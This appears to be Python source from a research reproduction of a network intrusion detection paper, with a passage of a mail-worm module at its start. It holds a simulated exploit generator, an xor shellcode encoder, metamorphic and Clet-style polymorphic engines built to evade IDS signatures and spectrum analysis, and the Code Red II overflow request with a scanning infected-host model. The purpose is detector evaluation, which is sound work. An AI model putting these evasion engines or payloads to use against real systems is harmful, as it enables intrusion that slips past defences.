            session.reply(b"250 ok\r\n")
            session.send(f"MAIL FROM:<user@{self.ip}>\r\n".encode())
            session.reply(b"250 ok\r\n")
            session.send(f"RCPT TO:<someone@{relay}>\r\n".encode())
            session.reply(b"250 ok\r\n")
            session.send(b"DATA\r\n")
            session.reply(b"354 go\r\n")
            session.send(self._message(attachment, relay))
            session.reply(b"250 queued\r\n")
            session.send(b"QUIT\r\n")
            session.close()
        return relays

"""The exploit generator tool (§5.1/§5.2).

"In our experiment, we built an exploit generator tool that sends exploit
packets to a honeypot machine registered with the NIDS."  This module is
that tool: it drives exploit requests (plain, encoded, or polymorphic)
over the software wire as real TCP conversations, so the NIDS exercises
its full path — classification, reassembly, extraction, analysis.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..net.wire import Host, Wire
from .admmutate import AdmMutateEngine, MutatedPayload
from .clet import CletEngine, CletPayload
from .exploit import (
    EXPLOITS,
    ExploitSpec,
    build_exploit_request,
    generic_overflow_request,
    iis_asp_overflow_request,
)

__all__ = ["ExploitGenerator", "SentExploit"]


@dataclass
class SentExploit:
    """Record of one exploit conversation the generator produced."""

    name: str
    target: str
    port: int
    request_len: int
    binds_port: bool = False
    meta: dict = field(default_factory=dict)


class ExploitGenerator:
    """Fires exploits from an attacker host at a target (honeypot)."""

    def __init__(self, wire: Wire, attacker_ip: str = "203.0.113.66") -> None:
        self.wire = wire
        self.host = Host(ip=attacker_ip, wire=wire)
        self.sent: list[SentExploit] = []

    # -- §5.1: the eight shell-spawning exploits -----------------------------

    def fire(self, spec: ExploitSpec, target: str, seed: int = 0,
             payload: bytes | None = None) -> SentExploit:
        request = build_exploit_request(spec, seed=seed, payload=payload)
        session = self.host.open_tcp(target, spec.port)
        session.send(request)
        session.close()
        record = SentExploit(
            name=spec.name, target=target, port=spec.port,
            request_len=len(request), binds_port=spec.binds_port,
        )
        self.sent.append(record)
        return record

    def fire_all(self, target: str, seed: int = 0) -> list[SentExploit]:
        """The Table 1 run: all eight exploits against the honeypot."""
        return [self.fire(spec, target, seed=seed + i)
                for i, spec in enumerate(EXPLOITS)]

    # -- §5.2: polymorphic campaigns -----------------------------------------

    def fire_iis_asp(self, target: str, seed: int = 0) -> SentExploit:
        request = iis_asp_overflow_request(seed=seed)
        session = self.host.open_tcp(target, 80)
        session.send(request)
        session.close()
        record = SentExploit(name="iis-asp-overflow", target=target, port=80,
                             request_len=len(request))
        self.sent.append(record)
        return record

    def fire_admmutate(self, target: str, payload: bytes, count: int,
                       engine: AdmMutateEngine | None = None) -> list[SentExploit]:
        """100 ADMmutate instances inside the generic overflow exploit."""
        engine = engine or AdmMutateEngine(seed=1)
        out = []
        for i in range(count):
            instance: MutatedPayload = engine.mutate(payload, instance=i)
            request = generic_overflow_request(instance.data, seed=i)
            session = self.host.open_tcp(target, 80)
            session.send(request)
            session.close()
            record = SentExploit(
                name=f"admmutate-{i:03d}", target=target, port=80,
                request_len=len(request),
                meta={"family": instance.decoder_family, "key": instance.key},
            )
            self.sent.append(record)
            out.append(record)
        return out

    def fire_clet(self, target: str, payload: bytes, count: int,
                  engine: CletEngine | None = None) -> list[SentExploit]:
        """100 Clet instances inside the generic overflow exploit."""
        engine = engine or CletEngine(seed=2)
        out = []
        for i in range(count):
            instance: CletPayload = engine.mutate(payload, instance=i)
            request = generic_overflow_request(instance.data, seed=i)
            session = self.host.open_tcp(target, 80)
            session.send(request)
            session.close()
            record = SentExploit(
                name=f"clet-{i:03d}", target=target, port=80,
                request_len=len(request), meta={"key": instance.key},
            )
            self.sent.append(record)
            out.append(record)
        return out

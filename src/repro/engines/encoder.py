"""Plain xor encoding with a jmp/call/pop decoder stub.

This is the un-obfuscated encoder used by published exploits like the
paper's ``iis-asp-overflow.c`` test case (§5.2): the shellcode is xor'd
with a one-byte key "to evade detection by IDSs that employ
pattern-matching techniques", and a small clear-text decoder loop is
prefixed.  The polymorphic engines in :mod:`repro.engines.admmutate` and
:mod:`repro.engines.clet` build on the same getPC idiom but obfuscate the
loop itself.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..x86.asm import assemble

__all__ = ["EncodedPayload", "xor_encode", "xor_decode_bytes"]


@dataclass
class EncodedPayload:
    """A decoder stub plus the encoded payload body."""

    data: bytes
    key: int
    decoder_len: int
    payload_len: int

    def __len__(self) -> int:
        return len(self.data)


def xor_decode_bytes(data: bytes, key: int) -> bytes:
    """Reference decode (used by tests to prove encodings are invertible)."""
    return bytes(b ^ key for b in data)


def xor_encode(payload: bytes, key: int = 0x95, ptr_reg: str = "esi") -> EncodedPayload:
    """Encode ``payload`` with a single-byte xor key and prepend the classic
    jmp/call/pop decoder::

        jmp short getpc
      setup:
        pop  PTR            ; PTR = &payload (pushed by the call)
        mov  ecx, len
      loop:
        xor  byte ptr [PTR], key
        inc  PTR
        loop loop
        jmp  payload
      getpc:
        call setup
      payload:
        <encoded bytes>
    """
    if not 1 <= key <= 0xFF:
        raise ValueError("xor key must be a non-zero byte")
    if not payload:
        raise ValueError("empty payload")
    encoded = bytes(b ^ key for b in payload)
    source = f"""
        jmp getpc
    setup:
        pop {ptr_reg}
        mov ecx, {len(payload)}
    decode:
        xor byte ptr [{ptr_reg}], {key:#x}
        inc {ptr_reg}
        loop decode
        jmp payload
    getpc:
        call setup
    payload:
    """
    decoder = assemble(source)
    return EncodedPayload(
        data=decoder + encoded,
        key=key,
        decoder_len=len(decoder),
        payload_len=len(payload),
    )

"""Metamorphic payload engine (§3 of the paper).

Polymorphism hides a payload behind encryption; *metamorphism* rewrites
the payload itself: "code transposition, equivalent instruction
substitution, jump insertion, NOP insertion, garbage instruction
insertion, and register reassignment" — the Figure 1 obfuscations,
applied to whole programs.  There is no decoder to find, so decoder
templates are useless by design; the behavioural templates
(``linux_shell_spawn`` etc.) are what must survive.

The engine rewrites shellcode at the assembly-source level with two
safety analyses keeping every variant *behaviourally identical*:

- **flag-demand analysis** — a backward pass marks the gaps where EFLAGS
  are live (set by one instruction, consumed by a later jcc/setcc);
  flag-writing junk and flag-behaviour-changing substitutions are only
  applied where flags are dead;
- **register accounting** — junk only touches registers the (already
  substituted) payload never reads or writes.

Every instance is validated by emulator tests to still spawn its shell.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass, field

from ..x86.asm import assemble

__all__ = ["MetamorphicEngine", "MetamorphicPayload"]

_LABEL_RE = re.compile(r"^[A-Za-z_.$][\w.$]*:$")
_FLAG_SETTERS = {"cmp", "test", "dec", "inc", "add", "sub", "xor", "or",
                 "and", "neg", "shl", "shr", "sar", "not_flags_never",
                 "mul", "imul"}
_FLAG_USERS = {"jz", "jnz", "je", "jne", "ja", "jb", "jae", "jbe", "jl",
               "jle", "jg", "jge", "js", "jns", "jo", "jno", "jc", "jnc",
               "jp", "jnp", "loope", "loopne", "adc", "sbb"}

_REG_ALIASES = {
    "eax": ("eax", "ax", "al", "ah"), "ebx": ("ebx", "bx", "bl", "bh"),
    "ecx": ("ecx", "cx", "cl", "ch"), "edx": ("edx", "dx", "dl", "dh"),
    "esi": ("esi", "si"), "edi": ("edi", "di"), "ebp": ("ebp", "bp"),
}


@dataclass
class MetamorphicPayload:
    """One rewritten instance."""

    data: bytes
    seed: int
    substitutions: int
    junk_inserted: int
    source: str = field(repr=False, default="")

    def __len__(self) -> int:
        return len(self.data)


def _mnemonic(line: str) -> str:
    return line.split()[0].rstrip(":").lower()


def _flag_demand(lines: list[str]) -> list[bool]:
    """``demand[i]`` — are EFLAGS live across the gap *before* line i?
    (i.e. some later instruction consumes flags before anything re-sets
    them).  ``demand[len(lines)]`` covers the tail gap."""
    n = len(lines)
    demand = [False] * (n + 1)
    for i in reversed(range(n)):
        m = _mnemonic(lines[i])
        if m in _FLAG_USERS or m.startswith("set"):
            demand[i] = True
        elif m in _FLAG_SETTERS:
            demand[i] = False
        else:
            demand[i] = demand[i + 1]
    return demand


class MetamorphicEngine:
    """Rewrites assembly-source payloads into equivalent variants."""

    def __init__(self, seed: int = 0, junk_probability: float = 0.35,
                 max_chunks: int = 4) -> None:
        self.seed = seed
        self.junk_probability = junk_probability
        self.max_chunks = max_chunks

    # -- public --------------------------------------------------------------

    def mutate_source(self, source: str, instance: int = 0) -> MetamorphicPayload:
        """Rewrite an assembly source string into an equivalent variant."""
        rng = random.Random((self.seed << 18) ^ instance)
        lines = self._normalize(source)
        lines, substitutions = self._substitute(rng, lines)
        # Register accounting AFTER substitution: junk may only use
        # registers the rewritten payload never touches.
        free = [r for r in ("esi", "edi", "ebp", "edx", "ebx")
                if r not in self._registers_used(lines)]
        lines, junk = self._insert_junk(rng, lines, free)
        lines = self._transpose(rng, lines)
        rewritten = "\n".join(lines)
        return MetamorphicPayload(
            data=assemble(rewritten),
            seed=instance,
            substitutions=substitutions,
            junk_inserted=junk,
            source=rewritten,
        )

    def batch_source(self, source: str, count: int) -> list[MetamorphicPayload]:
        return [self.mutate_source(source, instance=i) for i in range(count)]

    # -- passes ----------------------------------------------------------------

    @staticmethod
    def _normalize(source: str) -> list[str]:
        out = []
        for line in source.splitlines():
            line = line.split(";", 1)[0].strip()
            if line:
                out.append(line)
        return out

    @staticmethod
    def _registers_used(lines: list[str]) -> set[str]:
        used: set[str] = set()
        text = "\n".join(lines).lower()
        for family, parts in _REG_ALIASES.items():
            if any(re.search(rf"\b{p}\b", text) for p in parts):
                used.add(family)
        return used

    def _substitute(self, rng: random.Random,
                    lines: list[str]) -> tuple[list[str], int]:
        """Equivalent-instruction substitution, flag-demand aware."""
        demand = _flag_demand(lines)
        # A scratch register for materializing large immediates: one the
        # original payload never touches (junk accounting later sees the
        # substituted code, so it will avoid it too).
        scratch_candidates = [r for r in ("esi", "edi", "ebp")
                              if r not in self._registers_used(lines)]
        scratch = rng.choice(scratch_candidates) if scratch_candidates else None
        out: list[str] = []
        count = 0
        for i, line in enumerate(lines):
            flags_dead_after = not demand[i + 1]
            m = re.match(r"^push (0x[0-9a-f]{3,8})$", line, re.IGNORECASE)
            if m and scratch is not None and rng.random() < 0.7:
                value = int(m.group(1), 0)
                if flags_dead_after and rng.random() < 0.5:
                    a = rng.randrange(0, 1 << 31)
                    out += [f"mov {scratch}, {a:#x}",
                            f"add {scratch}, {(value - a) & 0xFFFFFFFF:#x}",
                            f"push {scratch}"]
                else:
                    out += [f"mov {scratch}, {value:#x}", f"push {scratch}"]
                count += 1
                continue
            m = re.match(r"^mov (e[a-d]x|e[sd]i|ebp), esp$", line)
            if m and rng.random() < 0.6:
                out += ["push esp", f"pop {m.group(1)}"]
                count += 1
                continue
            m = re.match(r"^mov ([abcd]l), (0x[0-9a-f]+|\d+)$", line)
            if m and flags_dead_after and rng.random() < 0.85:
                reg8, value = m.group(1), int(m.group(2), 0) & 0xFF
                a = rng.randrange(0, 256)
                out += [f"mov {reg8}, {a:#x}",
                        f"add {reg8}, {(value - a) & 0xFF:#x}"]
                count += 1
                continue
            m = re.match(r"^xor (e[a-d]x|e[sd]i|ebp), \1$", line)
            if m and rng.random() < 0.8:
                reg = m.group(1)
                choices = [f"sub {reg}, {reg}"]
                if flags_dead_after:
                    choices.append(f"mov {reg}, 0")
                out.append(rng.choice(choices))
                count += 1
                continue
            m = re.match(r"^inc (e[a-d]x|e[sd]i|ebp)$", line)
            if m and rng.random() < 0.6:
                out.append(f"add {m.group(1)}, 1")
                count += 1
                continue
            m = re.match(r"^mov (e[a-d]x|e[sd]i|ebp), (0x[0-9a-f]+|\d+)$",
                         line, re.IGNORECASE)
            if m and rng.random() < 0.5:
                reg, value = m.group(1), int(m.group(2), 0)
                if flags_dead_after:
                    style = rng.randrange(3)
                else:
                    style = 0  # push/pop leaves flags untouched
                if style == 0 and -128 <= value <= 127:
                    out += [f"push {value}", f"pop {reg}"]
                elif style == 1:
                    a = rng.randrange(0, 1 << 31)
                    out += [f"mov {reg}, {a:#x}",
                            f"add {reg}, {(value - a) & 0xFFFFFFFF:#x}"]
                elif style == 2:
                    a = rng.randrange(1, 1 << 32)
                    out += [f"mov {reg}, {a:#x}", f"xor {reg}, {a ^ value:#x}"]
                else:
                    out.append(line)
                    continue
                count += 1
                continue
            out.append(line)
        return out, count

    def _insert_junk(self, rng: random.Random, lines: list[str],
                     free: list[str]) -> tuple[list[str], int]:
        """Garbage/NOP insertion at flag- and register-safe positions."""
        demand = _flag_demand(lines)
        out: list[str] = []
        inserted = 0
        for i, line in enumerate(lines):
            if not _LABEL_RE.match(line):
                flags_live = demand[i]
                while rng.random() < self.junk_probability and inserted < 40:
                    if free and not flags_live and rng.random() < 0.6:
                        reg = rng.choice(free)
                        out.append(rng.choice([
                            f"mov {reg}, {rng.randrange(1 << 31):#x}",
                            f"add {reg}, {rng.randrange(1 << 12):#x}",
                            f"xor {reg}, {rng.randrange(1 << 12):#x}",
                        ]))
                    elif free and flags_live:
                        # flag-neutral junk only
                        out.append(f"mov {rng.choice(free)}, "
                                   f"{rng.randrange(1 << 31):#x}")
                    else:
                        out.append("nop" if flags_live
                                   else rng.choice(["nop", "cld", "cmc"]))
                    inserted += 1
            out.append(line)
        return out, inserted

    def _transpose(self, rng: random.Random, lines: list[str]) -> list[str]:
        """Cut into chunks, shuffle, rethread with jmp (Figure 1(c))."""
        n_chunks = rng.randrange(1, self.max_chunks + 1)
        if n_chunks == 1 or len(lines) < 4:
            return lines
        demand = _flag_demand(lines)
        safe_cuts = [
            i for i in range(1, len(lines))
            if not lines[i - 1].endswith(":")
            and not demand[i]  # never split a live flag edge with a jmp
            and not lines[i].startswith("loop")
        ]
        if not safe_cuts:
            return lines
        cuts = sorted(rng.sample(safe_cuts, min(n_chunks - 1, len(safe_cuts))))
        pieces: list[list[str]] = []
        prev = 0
        for cut in cuts + [len(lines)]:
            pieces.append(lines[prev:cut])
            prev = cut
        for index, piece in enumerate(pieces):
            label = "m_entry" if index == 0 else f"m_{index}"
            piece.insert(0, f"{label}:")
            if index + 1 < len(pieces):
                piece.append(f"jmp m_{index + 1}")
        order = list(range(len(pieces)))
        tail = order[1:]
        rng.shuffle(tail)
        order = [0] + tail  # the entry chunk stays first
        out: list[str] = []
        for index in order:
            out.extend(pieces[index])
        return out

"""Code Red II reconstruction (§5.3, Figure 5).

The initial exploitation vector is reproduced byte-for-byte from the
paper's Figure 5: a GET for ``/default.ida`` whose argument is a long run
of ``X`` characters (the overflow) followed by a ``%uXXXX`` unicode block.
Decoded little-endian, the unicode block is the worm's entry stub::

    nop; nop; pop eax; push 0x7801cbd3      (x3)
    nop x5
    add ebx, 0x300
    mov ebx, [ebx]
    push ebx
    call [ebx+0x78]

— repeated pushes of a 0x7801xxxx system-DLL address feeding an indirect
call, which is exactly what the ``codered_ii_vector`` template keys on.

:class:`CodeRedHost` models an infected machine for trace synthesis: it
scans pseudo-random addresses (biased to the local /8 and /16, like the
real CRII) and fires the exploit at responsive web servers.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from ..net.inet import int_to_ip, ip_to_int
from ..net.layers import TCP_SYN
from ..net.packet import Packet, tcp_packet

__all__ = ["CODE_RED_II_UNICODE", "code_red_ii_request", "CodeRedHost"]

# Figure 5, verbatim: the unicode block of the CRII exploit vector.
CODE_RED_II_UNICODE = (
    "%u9090%u6858%ucbd3%u7801"
    "%u9090%u6858%ucbd3%u7801"
    "%u9090%u6858%ucbd3%u7801"
    "%u9090%u9090%u8190%u00c3"
    "%u0003%u8b00%u531b%u53ff"
    "%u0078%u0000%u00"
)


def code_red_ii_request(x_run: int = 224) -> bytes:
    """The full CRII GET request (Figure 5)."""
    return (
        b"GET /default.ida?"
        + b"X" * x_run
        + CODE_RED_II_UNICODE.encode("ascii")
        + b"=a  HTTP/1.0\r\n"
        b"Content-type: text/xml\r\nContent-length: 3379\r\n\r\n"
    )


@dataclass
class CodeRedHost:
    """An infected host: scans for web servers and exploits them.

    Address selection follows CRII's documented bias: 1/2 of probes stay in
    the local /8, 3/8 in the local /16, 1/8 fully random.
    """

    ip: str
    seed: int = 0
    scans_per_burst: int = 20
    _rng: random.Random = field(init=False, repr=False)

    def __post_init__(self) -> None:
        # ip_to_int, not hash(): str hashes are salted per interpreter
        # (PYTHONHASHSEED), which would make "seeded" traces differ
        # between runs.
        self._rng = random.Random(
            (ip_to_int(self.ip) & 0xFFFF) ^ (self.seed << 16))

    def pick_target(self) -> str:
        me = ip_to_int(self.ip)
        roll = self._rng.random()
        if roll < 0.5:  # same /8
            addr = (me & 0xFF000000) | self._rng.randrange(1 << 24)
        elif roll < 0.875:  # same /16
            addr = (me & 0xFFFF0000) | self._rng.randrange(1 << 16)
        else:
            addr = self._rng.randrange(1, 0xE0000000)  # avoid multicast
        return int_to_ip(addr)

    def scan_packets(self, count: int | None = None, base_time: float = 0.0) -> list[Packet]:
        """A burst of SYN probes to port 80."""
        n = count if count is not None else self.scans_per_burst
        out = []
        for i in range(n):
            pkt = tcp_packet(
                self.ip, self.pick_target(), sport=1024 + self._rng.randrange(60000),
                dport=80, flags=TCP_SYN, seq=self._rng.randrange(1 << 32),
                timestamp=base_time + i * 0.05,
            )
            out.append(pkt)
        return out

    def exploit_packets(self, victim: str, base_time: float = 0.0,
                        mss: int = 536) -> list[Packet]:
        """The infection attempt: SYN, then the Figure 5 request segmented
        at the victim's MSS (CRII used small segments)."""
        request = code_red_ii_request()
        sport = 1024 + self._rng.randrange(60000)
        seq = self._rng.randrange(1 << 30)
        out = [tcp_packet(self.ip, victim, sport, 80, flags=TCP_SYN, seq=seq,
                          timestamp=base_time)]
        offset = 0
        seq += 1
        t = base_time + 0.001
        while offset < len(request):
            chunk = request[offset : offset + mss]
            out.append(tcp_packet(self.ip, victim, sport, 80, payload=chunk,
                                  flags=0x18, seq=seq, timestamp=t))
            seq += len(chunk)
            offset += len(chunk)
            t += 0.0005
        return out

"""Attack/workload engines: shellcode corpus, encoders, polymorphic
engines (ADMmutate- and Clet-style), exploit builders, Code Red II, and
the exploit generator tool used by the evaluation."""

from .shellcode import SHELLCODES, ShellcodeSpec, get_shellcode, shellcode_names
from .encoder import EncodedPayload, xor_decode_bytes, xor_encode
from .admmutate import AdmMutateEngine, MutatedPayload, SLED_OPCODES
from .clet import CletEngine, CletPayload, http_spectrum, spectrum_distance
from .exploit import (
    EXPLOITS, ExploitSpec, build_exploit_request, generic_overflow_request,
    get_exploit, iis_asp_overflow_request,
)
from .codered import CODE_RED_II_UNICODE, CodeRedHost, code_red_ii_request
from .netsky import NETSKY_STRINGS, netsky_sample
from .generator import ExploitGenerator, SentExploit
from .mailworm import MailWormHost, build_worm_attachment
from .metamorph import MetamorphicEngine, MetamorphicPayload

__all__ = [
    "SHELLCODES", "ShellcodeSpec", "get_shellcode", "shellcode_names",
    "EncodedPayload", "xor_decode_bytes", "xor_encode",
    "AdmMutateEngine", "MutatedPayload", "SLED_OPCODES",
    "CletEngine", "CletPayload", "http_spectrum", "spectrum_distance",
    "EXPLOITS", "ExploitSpec", "build_exploit_request",
    "generic_overflow_request", "get_exploit", "iis_asp_overflow_request",
    "CODE_RED_II_UNICODE", "CodeRedHost", "code_red_ii_request",
    "NETSKY_STRINGS", "netsky_sample",
    "ExploitGenerator", "SentExploit",
    "MailWormHost", "build_worm_attachment",
    "MetamorphicEngine", "MetamorphicPayload",
]

"""Clet-style polymorphic engine (Phrack 61, the paper's §5.2).

Clet's distinguishing feature over ADMmutate is *spectrum analysis
evasion*: besides obscuring an xor-based decryption routine, it shapes the
byte-frequency distribution of the final payload toward "normal traffic"
by adding cramming bytes, so data-mining/anomaly IDSs score it as benign.
The decoder remains an xor loop — which is why the paper's xor template
matched all 100 Clet instances.

Our implementation:

- a dword-wide rolling xor decoder with per-instance register allocation
  and key/length obfuscation (lighter junk than ADMmutate, like the real
  tool);
- spectrum shaping: padding drawn from a configurable target byte
  distribution (default: an HTTP-ish printable-text profile) appended
  after the encoded body until the instance's byte histogram approaches
  the target (measured by total-variation distance).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

import numpy as np

from ..x86.asm import assemble

__all__ = ["CletEngine", "CletPayload", "http_spectrum", "spectrum_distance"]


def http_spectrum() -> np.ndarray:
    """A plausible byte-frequency profile for web traffic: dominated by
    lowercase letters, digits, and HTTP punctuation."""
    weights = np.full(256, 0.05)
    for b in range(ord("a"), ord("z") + 1):
        weights[b] = 3.0
    for b in range(ord("A"), ord("Z") + 1):
        weights[b] = 1.0
    for b in range(ord("0"), ord("9") + 1):
        weights[b] = 1.5
    for b in b" /.:=&?%-_\r\n<>\"'();,":
        weights[b] = 2.0
    return weights / weights.sum()


def spectrum_distance(data: bytes, target: np.ndarray | None = None) -> float:
    """Total-variation distance between the data's byte histogram and the
    target spectrum (0 = identical distributions, 1 = disjoint)."""
    if target is None:
        target = http_spectrum()
    if not data:
        return 1.0
    counts = np.bincount(np.frombuffer(data, dtype=np.uint8), minlength=256)
    hist = counts / counts.sum()
    return float(0.5 * np.abs(hist - target).sum())


@dataclass
class CletPayload:
    """One Clet instance."""

    data: bytes
    key: int  # 32-bit rolling key
    sled_len: int
    cram_len: int
    seed: int
    source: str = field(repr=False, default="")

    def __len__(self) -> int:
        return len(self.data)


class CletEngine:
    """Generates spectrum-shaped xor-encoded instances."""

    _PTRS = ["esi", "edi", "ebx"]

    def __init__(
        self,
        seed: int = 0,
        sled_range: tuple[int, int] = (16, 48),
        target_spectrum: np.ndarray | None = None,
        cram_factor: float = 1.5,
    ) -> None:
        self.seed = seed
        self.sled_range = sled_range
        self.target = target_spectrum if target_spectrum is not None else http_spectrum()
        #: cramming bytes per payload byte — more cram, closer to target
        self.cram_factor = cram_factor

    def mutate(self, payload: bytes, instance: int = 0) -> CletPayload:
        rng = random.Random((self.seed << 16) ^ instance)
        key = rng.randrange(1, 1 << 32)

        padded = payload + b"\x90" * (-len(payload) % 4)
        words = np.frombuffer(padded, dtype="<u4")
        encoded = (words ^ np.uint32(key)).astype("<u4").tobytes()

        ptr = rng.choice(self._PTRS)
        key_reg = rng.choice([r for r in ("eax", "edx", "ebx") if r != ptr])
        n_words = len(padded) // 4

        key_setup = self._key_setup(rng, key_reg, key)
        count_setup = (f"mov ecx, {n_words}" if rng.random() < 0.5
                       else f"push {n_words}\npop ecx")
        source = f"""
            jmp getpc
        setup:
            pop {ptr}
            {key_setup}
            {count_setup}
        decode:
            xor dword ptr [{ptr}], {key_reg}
            add {ptr}, 4
            loop decode
            jmp payload
        getpc:
            call setup
        payload:
        """
        decoder = assemble(source)
        sled_len = rng.randrange(*self.sled_range)
        sled = bytes(rng.choice((0x90, 0x41, 0x42, 0x4A, 0x4B))
                     for _ in range(sled_len))  # alphanumeric-friendly sled
        body = sled + decoder + encoded
        cram = self._cram(rng, body)
        return CletPayload(
            data=body + cram,
            key=key,
            sled_len=sled_len,
            cram_len=len(cram),
            seed=instance,
            source=source,
        )

    def batch(self, payload: bytes, count: int) -> list[CletPayload]:
        return [self.mutate(payload, instance=i) for i in range(count)]

    # -- internals --------------------------------------------------------------

    def _key_setup(self, rng: random.Random, reg: str, key: int) -> str:
        style = rng.randrange(3)
        if style == 0:
            return f"mov {reg}, {key:#x}"
        if style == 1:
            a = rng.randrange(1, 1 << 32)
            return f"mov {reg}, {a:#x}\n    xor {reg}, {a ^ key:#x}"
        a = rng.randrange(1, 1 << 31)
        return f"mov {reg}, {a:#x}\n    add {reg}, {(key - a) & 0xFFFFFFFF:#x}"

    def _cram(self, rng: random.Random, body: bytes) -> bytes:
        """Sample padding so the combined histogram moves toward the target
        spectrum.  Greedy: draw from the *deficit* distribution (target
        minus what the body already has)."""
        n = int(len(body) * self.cram_factor)
        if n <= 0:
            return b""
        counts = np.bincount(np.frombuffer(body, dtype=np.uint8), minlength=256)
        total = counts.sum() + n
        want = self.target * total - counts
        want = np.clip(want, 0, None)
        if want.sum() == 0:
            want = self.target.copy()
        probs = want / want.sum()
        gen = np.random.default_rng(rng.randrange(1 << 63))
        return gen.choice(256, size=n, p=probs).astype(np.uint8).tobytes()

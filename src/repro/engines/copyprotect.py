"""Copy-protected benign software (the §3 CrypKey/ASProtect scenario).

"During the course of this research, we identified several legitimate
programs (Crypkey, ASProtect) that obscure binaries with simple
encryption routines as a form of copy protection.  Locating a decryption
loop (the primary test in [5]) within a program protected by one of
these applications will signal a false alert."

This module builds that exact object: a benign application body wrapped
by a protector-style stub — key schedule, xor decryption loop over the
encrypted body, jump into the decrypted program.  Behaviourally the stub
IS a decryption loop; a semantic scanner *should* match it.  The paper's
point is architectural: a host-based scanner ([5]) alerts on it, while
the network NIDS only ever sees it as an HTTP *download* by an unmarked
client, which the classifier never routes to analysis.
"""

from __future__ import annotations

import random

from ..x86.asm import assemble
from .netsky import netsky_sample

__all__ = ["protected_binary", "protector_stub"]


def protector_stub(body_len: int, key: int, ptr_reg: str = "esi") -> bytes:
    """An ASProtect-flavoured loader stub: locate the payload (getpc),
    decrypt it in place, jump into it."""
    return assemble(f"""
        jmp getpc
    loader:
        pop {ptr_reg}
        mov ecx, {body_len}
    unprotect:
        xor byte ptr [{ptr_reg}], {key:#x}
        inc {ptr_reg}
        loop unprotect
        jmp program
    getpc:
        call loader
    program:
    """)


def protected_binary(size: int = 16 * 1024, seed: int = 0) -> bytes:
    """A benign program (mass-market-software-shaped code and strings)
    wrapped with the protector: stub + encrypted body.

    The decrypted body is inert application code
    (:func:`repro.engines.netsky.netsky_sample` without any shellcode),
    so the only "suspicious" behaviour in the file is the *legitimate*
    protection loop.
    """
    rng = random.Random(seed)
    key = rng.randrange(1, 256)
    body = netsky_sample(size=size, seed=seed ^ 0xC0DE)
    stub = protector_stub(len(body), key)
    encrypted = bytes(b ^ key for b in body)
    return stub + encrypted

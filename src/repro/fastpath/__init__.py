"""Fast-path admission layer.

The paper's §5.5 running-time argument is that semantic matching is
affordable because most traffic never reaches it.  This package pushes
that gate one stage deeper: before a frame is disassembled, a compiled
multi-pattern byte prefilter checks whether the frame can possibly
satisfy *any* template, and per-template anchor hits prune the match
engine's candidate start positions.

Soundness invariant: every anchor is a **necessary condition** derived
from the lifter's instruction->IR mapping (see :mod:`.anchors`), so the
prefilter may only skip work, never change results.  The differential
harness in ``tests/nids/test_fastpath_parity.py`` pins byte-identical
alert streams with the layer on and off.
"""

from .anchors import (
    AnchorClause,
    CompiledPrefilter,
    PrefilterScan,
    TemplateAnchors,
    compile_prefilter,
    derive_anchors,
)
from .multimatch import AhoCorasick, PatternMatch

__all__ = [
    "AhoCorasick",
    "AnchorClause",
    "CompiledPrefilter",
    "PatternMatch",
    "PrefilterScan",
    "TemplateAnchors",
    "compile_prefilter",
    "derive_anchors",
]

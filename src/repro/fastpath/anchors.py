"""Template anchor compiler: necessary-condition byte prefiltering.

For each template node kind we derive the *complete* set of opcode byte
patterns whose instructions could lift (:mod:`repro.ir.lift`) to a
statement satisfying that node.  Because a decoded instruction's raw
bytes are a contiguous substring of the frame, a frame that contains no
byte of a node's producer set cannot contain any instruction able to
satisfy that node — anywhere, under any disassembly offset the sweep
tries.  That makes each derived pattern set a **necessary condition**:

- per template, every anchorable node contributes one *clause* (a set of
  byte patterns, at least one of which must occur in the frame);
- a template can match a frame only if **every** clause is hit (CNF);
- a frame can be skipped entirely only if every template is ruled out.

Soundness rests on two properties, both pinned by tests:

1. *Producer completeness*: the per-node sets below enumerate every
   opcode the disassembler (:mod:`repro.x86.disasm`) decodes into an
   instruction the lifter turns into a node-satisfying statement.
   Over-approximating (listing extra opcodes) only costs performance;
   under-approximating would lose detections, so nodes whose producer
   sets are broad or hard to pin down (``PointerStep``, ``RegCompute``,
   ``RegFromEsp`` — satisfiable by ``inc``/``dec``/``lea``/plain ALU
   bytes that are ubiquitous in text and binary data) contribute **no
   clause**, which is a sound weakening.
2. *Encoding-prefix form*: every pattern is the leading byte(s) of the
   producing instruction's encoding once legacy prefixes are stripped
   (``cd 80`` = opcode + immediate, ``0f 8x`` = the two-byte opcode), so
   a decoded instruction can satisfy a node only if its own post-prefix
   leading bytes equal one of the node's patterns — which is what lets
   the matcher prune candidate start positions per instruction
   (:meth:`repro.core.matcher.PreparedTrace.anchor_cum`), a strictly
   stronger check than looking for the bytes anywhere in the frame.

A template for which no clause can be derived is treated as
``always_scan`` (never prefiltered); templates may also opt out
explicitly via :attr:`repro.core.template.Template.always_scan`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..core.template import (
    ConstBytesWrite,
    ConstCapture,
    IndirectCall,
    LoadFrom,
    LoopBack,
    MemRmw,
    Node,
    PushValue,
    StoreTo,
    Syscall,
    Template,
)
from .multimatch import AhoCorasick

__all__ = [
    "AnchorClause",
    "TemplateAnchors",
    "CompiledPrefilter",
    "PrefilterScan",
    "compile_prefilter",
    "derive_anchors",
]


def _singles(*codes: int) -> frozenset[bytes]:
    return frozenset(bytes([c]) for c in codes)


# Opcodes whose memory-destination forms lift to the read-modify-write
# ``Store(src=BinOp(op, Load(mem), ...))`` / ``Store(src=UnOp(op, ...))``
# shape MemRmw matches, per lifted (normalized) operation name.  Group-1
# immediate forms (0x80-0x83) select the operation via ModRM /reg, so the
# opcode byte alone admits all eight ALU ops; inc/dec (0xFE/0xFF /0 /1)
# lift to add/sub with a constant-1 key; shift opcodes (0xC0/0xC1,
# 0xD0-0xD3) select via /reg too, and the lifter folds sal->shl,
# rcl->rol, rcr->ror.
_GROUP1_IMM = _singles(0x80, 0x81, 0x82, 0x83)
_INCDEC_RM = _singles(0xFE, 0xFF)
_SHIFT_RM = _singles(0xC0, 0xC1, 0xD0, 0xD1, 0xD2, 0xD3)
_RMW_PRODUCERS: dict[str, frozenset[bytes]] = {
    "add": _singles(0x00, 0x01, 0x10, 0x11) | _GROUP1_IMM | _INCDEC_RM,
